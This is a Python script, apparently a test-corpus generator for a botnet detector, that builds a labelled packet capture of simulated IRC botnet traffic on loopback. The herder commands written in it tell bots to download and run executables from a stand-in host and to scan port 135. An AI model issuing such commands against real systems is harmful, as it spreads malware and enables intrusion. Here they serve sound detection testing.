#!/usr/bin/env python3
"""Makes bottrace's vantage-point capture with real server software on loopback (127.0.0.0/8 only).

Servers (Debian packages, started by this script): two ngircd 26.1 servers, dnsmasq 2.90 as the
resolver, Python's http.server as the download server. Clients: this program, one thread per client,
speaking real IRC, DNS and HTTP over real sockets bound to their own 127.x source address. tcpdump
captures the loopback interface. Needs root (port 80 and 53), ngircd, dnsmasq and tcpdump.

    src/test/scripts/vantage-corpus.py OUT_DIR [SECONDS]

writes OUT_DIR/capture.pcap and OUT_DIR/labels.json (every host's role, every command and reply).

The network:
- 127.0.0.10:6667 irc.public.example, an open public server: 15 people in #linux, #chat, #music and
  #help (human delays, one answering others fast by hand, one idler), a benign service bot (InfoBot,
  answers !seen/!help in three channels within a second), and a small SDBot-style botnet in the keyed
  channel #x7: a herder and 5 bots that answer "!" commands within a second with [MAIN]/[SYSINFO]/
  [DOWNLOAD] reports.
- 127.0.0.20:4444 cc.rxbot.example, a password-protected rBot-style C&C: a herder whose channel topic is
  a `.download` command, 3 bots that obey it when they join ([DOWNLOAD] replies), then `.advscan` and
  `.sysinfo`.
- The company network 127.1.0.0/16: one person on the public server, one bot in #x7, one rBot bot on
  the C&C (it resolves the C&C's name, downloads the topic's URL over HTTP and scans 127.1.0.100-129
  on 135/tcp when told).
"""
import json
import math
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

OUT = os.path.abspath(sys.argv[1])
DURATION = float(sys.argv[2]) if len(sys.argv) > 2 else 420.0
rnd = random.Random(20261201)
T0 = None
LABELS = {"hosts": [], "servers": [], "commands": [], "replies": [], "downloads": [], "scans": []}
LOCK = threading.Lock()


def rel():
    return round(time.time() - T0, 3)


def log(kind, **kv):
    kv["t_rel"] = rel()
    with LOCK:
        LABELS[kind].append(kv)


# ---------------------------------------------------------------- servers

def ngircd_conf(path, name, info, network, listen, port, password):
    with open(path, "w") as f:
        f.write(f"""[Global]
Name = {name}
Info = {info}
Network = {network}
Listen = {listen}
Ports = {port}
MotdPhrase = "Welcome to {network}."
{'Password = ' + password if password else ''}
AdminInfo1 = test
AdminInfo2 = loopback
AdminEMail = root@localhost
[Limits]
MaxNickLength = 30
PingTimeout = 900
PongTimeout = 60
MaxConnectionsIP = 0
[Options]
DNS = no
Ident = no
PAM = no
""")


def start_servers(tmp):
    procs = []
    for name, info, net, listen, port, pw in [
            ("irc.public.example", "A public network", "PubNet", "127.0.0.10", 6667, None),
            ("cc.rxbot.example", "rx", "rx", "127.0.0.20", 4444, "r00tme")]:
        conf = os.path.join(tmp, name + ".conf")
        ngircd_conf(conf, name, info, net, listen, port, pw)
        procs.append(subprocess.Popen(["ngircd", "-n", "-f", conf], stdout=subprocess.DEVNULL,
                                      stderr=subprocess.DEVNULL))
    procs.append(subprocess.Popen(["dnsmasq", "-k", "--no-resolv", "--no-hosts", "--listen-address=127.0.0.53",
                                   "--bind-interfaces", "--port=53", "--address=/irc.public.example/127.0.0.10",
                                   "--address=/cc.rxbot.example/127.0.0.20", "--address=/dl.example/127.0.0.30",
                                   "--user=root", "--pid-file=" + os.path.join(tmp, "dnsmasq.pid")],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    www = os.path.join(tmp, "www")
    os.makedirs(www)
    for f, n in [("x.exe", 61440), ("y.exe", 45056)]:
        with open(os.path.join(www, f), "wb") as o:
            o.write(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + os.urandom(n - 16))
    procs.append(subprocess.Popen([sys.executable, "-m", "http.server", "80", "--bind", "127.0.0.30",
                                   "--directory", www], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    time.sleep(1.5)
    return procs


# ---------------------------------------------------------------- client side helpers

def resolve(src, name):
    """An A query to dnsmasq from the client's own address, as a stub resolver sends it."""
    qid = rnd.randrange(65536)
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    q += b"\x00" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.settimeout(2)
    s.sendto(q, ("127.0.0.53", 53))
    try:
        data = s.recv(512)
        return socket.inet_ntoa(data[-4:])
    finally:
        s.close()


def http_get(src, url):
    """A download the way a bot does it: a plain GET with an old IE user agent, from its own address."""
    class Bound(urllib.request.HTTPHandler):
        def http_open(self, req):
            import http.client
            return self.do_open(lambda host, **kw: http.client.HTTPConnection(host, source_address=(src, 0), **kw), req)
    opener = urllib.request.build_opener(Bound)
    opener.addheaders = [("User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)")]
    data = opener.open(url, timeout=5).read()
    log("downloads", host=src, url=url, bytes=len(data))
    return len(data)


def scan(src, targets, port):
    open_ = []
    for t in targets:
        s = socket.socket()
        s.bind((src, 0))
        s.settimeout(1)
        try:
            s.connect((t, port))
            open_.append(t)
        except OSError:
            pass
        finally:
            s.close()
        time.sleep(0.05)
    log("scans", host=src, port=port, targets=len(targets), open=open_)


def lognormal(median, sigma=0.6):
    return median * math.exp(rnd.gauss(0, sigma))


class Client:
    """One IRC client connection: registration, a reader thread, and a behaviour."""

    def __init__(self, role, src, server, port, nick, user, realname, password=None, mode="0",
                 server_name=None):
        self.role, self.src, self.server, self.port = role, src, server, port
        self.nick, self.user, self.realname, self.password, self.mode = nick, user, realname, password, mode
        self.server_name = server_name
        self.sock = None
        self.buf = b""
        self.channels = []
        self.handlers = []
        self.alive = True
        self.registered = threading.Event()
        LABELS["hosts"].append({"ip": src, "role": role, "nick": nick, "server": server, "port": port})

    def send(self, line):
        if self.alive:
            try:
                self.sock.sendall((line + "\r\n").encode())
            except OSError:
                self.alive = False

    def connect(self):
        if self.server_name:
            resolve(self.src, self.server_name)
        self.sock = socket.socket()
        self.sock.bind((self.src, 0))
        self.sock.connect((self.server, self.port))
        threading.Thread(target=self.reader, daemon=True).start()
        if self.password:
            self.send("PASS " + self.password)
        if self.role == "bot":
            # bots send their registration in one segment
            self.sock.sendall(f"NICK {self.nick}\r\nUSER {self.user} {self.mode} 0 :{self.realname}\r\n".encode())
        else:
            self.send("CAP LS 302")
            self.send("NICK " + self.nick)
            self.send(f"USER {self.user} {self.mode} * :{self.realname}")
            self.send("CAP END")
        self.registered.wait(10)

    def reader(self):
        while self.alive:
            try:
                data = self.sock.recv(65536)
            except OSError:
                break
            if not data:
                break
            self.buf += data
            while b"\r\n" in self.buf:
                line, self.buf = self.buf.split(b"\r\n", 1)
                self.on_line(line.decode(errors="replace"))
        self.alive = False

    def on_line(self, line):
        prefix = ""
        if line.startswith(":"):
            prefix, line = line[1:].split(" ", 1)
        trailing = None
        if " :" in line:
            line, trailing = line.split(" :", 1)
        parts = line.split(" ")
        cmd, args = parts[0], parts[1:]
        if cmd == "PING":
            self.send("PONG :" + (trailing or ""))
        elif cmd in ("376", "422"):
            self.registered.set()
        for h in self.handlers:
            h(prefix, cmd, args, trailing)

    def join(self, channel, key=None):
        self.channels.append(channel)
        self.send(f"JOIN {channel}" + (f" {key}" if key else ""))

    def say(self, channel, text):
        self.send(f"PRIVMSG {channel} :{text}")


def at(t, fn, *args, **kw):
    """Runs fn at t seconds after the capture began, in its own thread."""
    def run():
        d = T0 + t - time.time()
        if d > 0:
            time.sleep(d)
        try:
            fn(*args, **kw)
        except Exception as e:  # a client's failure is reported, not fatal
            print(f"{rel()}: {fn.__name__}: {e}", file=sys.stderr)
    threading.Thread(target=run, daemon=True).start()


# ---------------------------------------------------------------- people

CHAT = [
    "anyone tried the new kernel on a thinkpad?", "lol", "brb coffee", "that's what the docs say too",
    "did you check dmesg?", "works for me on debian 12", "hmm, weird", "which version are you on?",
    "ok, thanks", "the mirror is slow again today", "I switched to wayland last week, no regrets",
    "is that a bug or a feature", "good morning all", "anyone here use vim with lsp?", "yes",
    "no idea, sorry", "try restarting the service", "what does the log say?", "haha", "nice",
    "I'll look at it tonight", "the new album is great", "anyone going to the concert friday?",
    "heading out, see you", "that was fast", "try `apt policy`", "same here", "I think so",
    "did you read the release notes?", "weekend plans?", "it rained all day here",
]
PEOPLE = [
    # ip, nick, user, realname, channels, connect at (s)
    ("127.0.1.1", "mika", "mika", "Mika K", ["#linux", "#chat"], 8),
    ("127.0.1.2", "rosa_b", "rosa", "Rosa", ["#chat", "#music"], 10),
    ("127.0.1.3", "tuxfan", "tux", "Tux Fan", ["#linux", "#help"], 11),
    ("127.0.1.4", "jlee", "jlee", "J Lee", ["#linux", "#chat", "#help"], 13),
    ("127.0.1.5", "noor", "noor", "Noor", ["#music"], 16),
    ("127.0.1.6", "pablo", "pablo", "Pablo", ["#chat", "#music"], 30),
    ("127.0.1.7", "kenji", "kenji", "Kenji", ["#linux"], 41),
    ("127.0.1.8", "annika", "annika", "Annika", ["#chat", "#help"], 55),
    ("127.0.1.9", "oleg", "oleg", "Oleg", ["#linux", "#music"], 70),
    ("127.0.1.10", "sam", "sam", "Sam", ["#chat"], 90),
    ("127.0.1.11", "fastfingers", "ff", "Fast", ["#linux", "#chat"], 95),  # answers others by hand, fast
    ("127.0.1.12", "idler", "idle", "Idle", ["#help"], 20),  # never says a word
    ("127.0.1.13", "chloe", "chloe", "Chloe", ["#music", "#chat"], 120),
    ("127.0.1.14", "bram", "bram", "Bram", ["#linux", "#help"], 140),
    ("127.1.0.50", "dev_anna", "anna", "Anna (work)", ["#linux", "#help"], 25),  # inside the company
]


def person(ip, nick, user, realname, chans, fast=False, silent=False):
    c = Client("person", ip, "127.0.0.10", 6667, nick, user, realname, server_name="irc.public.example")
    c.connect()
    time.sleep(lognormal(2.0, 0.3))
    for ch in chans:
        c.join(ch)
        time.sleep(lognormal(0.6, 0.3))
    if silent:
        while c.alive and rel() < DURATION:
            time.sleep(60)
            c.send("PING :lag" + str(int(time.time())))
        return

    def addressed(prefix, cmd, args, trailing):
        if cmd == "PRIVMSG" and args and args[0].startswith("#") and trailing and nick in trailing:
            # people answer most questions, and address the asker back only now and then, so that
            # conversations end
            if rnd.random() < 0.7:
                who = prefix.split("!")[0]
                delay = rnd.uniform(0.7, 1.6) if fast else lognormal(6.0, 0.5)
                text = f"{who}: {rnd.choice(CHAT)}" if rnd.random() < 0.3 else rnd.choice(CHAT)
                at(rel() + delay, c.say, args[0], text)
    c.handlers.append(addressed)
    others = [p[1] for p in PEOPLE if p[1] != nick and p[1] not in ("idler",)]
    while c.alive and rel() < DURATION:
        time.sleep(lognormal(35.0 if not fast else 20.0, 0.7))
        ch = rnd.choice(chans)
        r = rnd.random()
        if r < 0.25:
            c.say(ch, f"{rnd.choice(others)}: {rnd.choice(CHAT)}")
        elif r < 0.32 and "#help" in chans:
            c.say("#help", "!seen " + rnd.choice(others))
        elif r < 0.36:
            c.send(f"PRIVMSG {ch} :\x01ACTION {rnd.choice(['waves', 'yawns', 'is back'])}\x01")
        else:
            c.say(ch, rnd.choice(CHAT))


def infobot():
    """A benign channel service bot: answers !seen and !help at once, in the three channels it serves."""
    c = Client("service_bot", "127.0.1.100", "127.0.0.10", 6667, "InfoBot", "infobot", "Channel info bot")
    c.connect()
    for ch in ["#help", "#linux", "#chat"]:
        c.join(ch)

    def answer(prefix, cmd, args, trailing):
        if cmd == "PRIVMSG" and args and args[0].startswith("#") and trailing and trailing.startswith("!"):
            word = trailing.split()
            if word[0] == "!seen" and len(word) > 1:
                at(rel() + rnd.uniform(0.15, 0.5), c.send,
                   f"PRIVMSG {args[0]} :{word[1]} was last seen {rnd.randint(2, 50)} minutes ago")
            elif word[0] == "!help":
                at(rel() + rnd.uniform(0.15, 0.5), c.send, f"NOTICE {prefix.split('!')[0]} :commands: !seen !help")
    c.handlers.append(answer)
    while c.alive and rel() < DURATION:
        time.sleep(30)


# ---------------------------------------------------------------- the SDBot-style botnet on the public server

X7_KEY = "n0p3"
X7_BOTS = [("127.0.2.1", "[DEU]-483920"), ("127.0.2.2", "[USA]-102983"), ("127.1.0.24", "[NLD]-772301"),
           ("127.0.2.3", "[BRA]-550193"), ("127.0.2.4", "[KOR]-310877")]
X7_COMMANDS = ["!status", "!sysinfo", "!download http://dl.example/y.exe c:\\y.exe 1", "!status", "!sysinfo",
               "!status"]


def sdbot(ip, nick):
    c = Client("bot", ip, "127.0.0.10", 6667, nick, "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6)),
               nick, server_name="irc.public.example")
    c.connect()
    c.join("#x7", X7_KEY)

    def obey(prefix, cmd, args, trailing):
        if cmd != "PRIVMSG" or not trailing or not prefix.startswith("x7boss!"):
            return
        words = trailing.split()
        replies = []
        if words[0] == "!status":
            replies = [f"[MAIN]: Status: Ready. Bot Uptime: 0d {rnd.randint(1, 9)}h {rnd.randint(0, 59)}m."]
        elif words[0] == "!sysinfo":
            replies = [f"[SYSINFO]: [CPU]: {rnd.choice([1800, 2400, 3000])}MHz. [RAM]: 512MB total. "
                       f"[OS]: Windows XP (5.1, Build 2600). [Uptime]: {rnd.randint(1, 30)}d."]
        elif words[0] == "!download":
            replies = [f"[DOWNLOAD]: Downloading URL: {words[1]} to: {words[2]}."]
        delay = rnd.uniform(0.1, 0.8)
        for i, r in enumerate(replies):
            at(rel() + delay + i * 0.3, c.say, args[0], r)
            log("replies", host=ip, command=words[0], reply=r.split(":")[0], delay=round(delay, 3))
        if words[0] == "!download" and ip.startswith("127.1."):
            def fetch():
                n = http_get(ip, words[1].replace("dl.example", resolve(ip, "dl.example")))
                c.say(args[0], f"[DOWNLOAD]: Downloaded {n / 1024:.1f} KB to {words[2]} @ 512.0 KB/sec.")
            at(rel() + delay + 0.5, fetch)
    c.handlers.append(obey)
    while c.alive and rel() < DURATION:
        time.sleep(10)


def x7_herder():
    c = Client("herder", "127.0.3.66", "127.0.0.10", 6667, "x7boss", "boss", "boss", server_name="irc.public.example")
    c.connect()
    c.join("#x7")
    time.sleep(1)
    c.send(f"MODE #x7 +sntk {X7_KEY}")
    t = 150.0
    for cmd in X7_COMMANDS:
        at(t, c.say, "#x7", cmd)
        at(t, log, "commands", server="127.0.0.10", channel="#x7", command=cmd)
        t += rnd.uniform(30, 45)
    while c.alive and rel() < DURATION:
        time.sleep(10)


# ---------------------------------------------------------------- the rBot-style C&C

RX_KEY = "rx!k"
RX_TOPIC = ".download http://dl.example/x.exe c:\\x.exe 1"
RX_BOTS = [("127.0.4.1", "[USA|XP]-294812", 35), ("127.1.0.23", "[DEU|2K]-771230", 60), ("127.0.4.2", "[FRA|XP]-102377", 95)]


def rbot(ip, nick):
    c = Client("bot", ip, "127.0.0.20", 4444, nick, "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(5)),
               nick, password="r00tme", server_name="cc.rxbot.example")
    c.connect()
    c.join("#rx", RX_KEY)
    internal = ip.startswith("127.1.")

    def command(text, channel):
        words = text.split()
        delay = rnd.uniform(0.2, 0.9)
        if words[0] == ".download":
            at(rel() + delay, c.say, channel, f"[DOWNLOAD]: Downloading URL: {words[1]} to: {words[2]}.")
            log("replies", host=ip, command=".download", reply="[DOWNLOAD]", delay=round(delay, 3))
            if internal:
                def fetch():
                    n = http_get(ip, words[1].replace("dl.example", resolve(ip, "dl.example")))
                    c.say(channel, f"[DOWNLOAD]: Downloaded {n / 1024:.1f} KB to {words[2]} @ 640.0 KB/sec.")
                    time.sleep(0.4)
                    c.say(channel, f"[DOWNLOAD]: Opened: {words[2]}.")
                at(rel() + delay + 0.3, fetch)
        elif words[0] == ".advscan":
            at(rel() + delay, c.say, channel, f"[SCAN]: Random Port Scan started on 127.1.x.x:135 with a delay of "
               f"{words[3]} seconds for {words[4]} minutes using {words[2]} threads.")
            log("replies", host=ip, command=".advscan", reply="[SCAN]", delay=round(delay, 3))
            if internal:
                at(rel() + delay + 0.5, scan, ip, [f"127.1.0.{i}" for i in range(100, 130)], 135)
        elif words[0] == ".sysinfo":
            at(rel() + delay, c.say, channel, "[SYSINFO]: [CPU]: 2400MHz. [RAM]: 512MB total, 201MB free. "
               "[OS]: Windows 2000 (5.0, Build 2195). [Sysdir]: C:\\WINNT\\system32.")
            log("replies", host=ip, command=".sysinfo", reply="[SYSINFO]", delay=round(delay, 3))

    def on(prefix, cmd, args, trailing):
        if cmd == "332" and trailing:
            command(trailing, args[1])
        elif cmd == "PRIVMSG" and trailing and prefix.startswith("rxadmin!") and trailing.startswith("."):
            command(trailing, args[0])
    c.handlers.append(on)
    while c.alive and rel() < DURATION:
        time.sleep(10)


def rx_herder():
    c = Client("herder", "127.0.5.7", "127.0.0.20", 4444, "rxadmin", "adm", "adm", password="r00tme",
               server_name="cc.rxbot.example")
    c.connect()
    c.join("#rx")
    time.sleep(0.7)
    c.send(f"MODE #rx +smntk {RX_KEY}")
    time.sleep(0.5)
    c.send(f"TOPIC #rx :{RX_TOPIC}")
    log("commands", server="127.0.0.20", channel="#rx", command="topic " + RX_TOPIC)
    for t, cmd in [(200, ".advscan dcom135 20 3 0 -r -s"), (300, ".sysinfo")]:
        at(t, c.say, "#rx", cmd)
        at(t, log, "commands", server="127.0.0.20", channel="#rx", command=cmd)
    while c.alive and rel() < DURATION:
        time.sleep(10)


# ---------------------------------------------------------------- run

def capture(out, servers, schedule, prefix="bottrace-vantage-"):
    """Starts the servers (servers(tmp) returns their processes) and tcpdump on lo, calls schedule() at the
    capture's start (it schedules the clients with at() and returns), waits DURATION, stops everything and
    writes out/labels.json."""
    global T0
    if os.geteuid() != 0:
        sys.exit("needs root: the servers listen on privileged ports and tcpdump captures lo")
    os.makedirs(out, exist_ok=True)
    tmp = tempfile.mkdtemp(prefix=prefix)
    procs = servers(tmp)
    pcap = os.path.join(out, "capture.pcap")
    dump = subprocess.Popen(["tcpdump", "-i", "lo", "-s", "0", "-U", "-w", pcap, "net", "127.0.0.0/8"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(2)
    T0 = time.time()
    schedule()
    time.sleep(DURATION)
    LABELS["duration_s"] = DURATION
    LABELS["first_packet_epoch"] = T0
    time.sleep(1)
    dump.send_signal(signal.SIGINT)
    dump.wait(10)
    for p in procs:
        p.terminate()
    with open(os.path.join(out, "labels.json"), "w") as f:
        json.dump(LABELS, f, indent=1, sort_keys=True)
    print(f"wrote {pcap}: {os.path.getsize(pcap)} bytes")


def schedule():
    LABELS["servers"] = [
        {"ip": "127.0.0.10", "port": 6667, "role": "irc_server", "name": "irc.public.example",
         "botnet_channels": ["#x7"]},
        {"ip": "127.0.0.20", "port": 4444, "role": "cc_server", "name": "cc.rxbot.example",
         "botnet_channels": ["#rx"]},
        {"ip": "127.0.0.30", "port": 80, "role": "download_server", "name": "dl.example"},
        {"ip": "127.0.0.53", "port": 53, "role": "dns_server"}]
    LABELS["home_net"] = "127.1.0.0/16"
    at(1, infobot)
    at(4, rx_herder)
    at(20, x7_herder)
    for ip, nick, user, realname, chans, t in PEOPLE:
        at(t, person, ip, nick, user, realname, chans, nick == "fastfingers", nick == "idler")
    for i, (ip, nick) in enumerate(X7_BOTS):
        at(40 + i * rnd.uniform(20, 35), sdbot, ip, nick)
    for ip, nick, t in RX_BOTS:
        at(t, rbot, ip, nick)


if __name__ == "__main__":
    capture(OUT, start_servers, schedule)
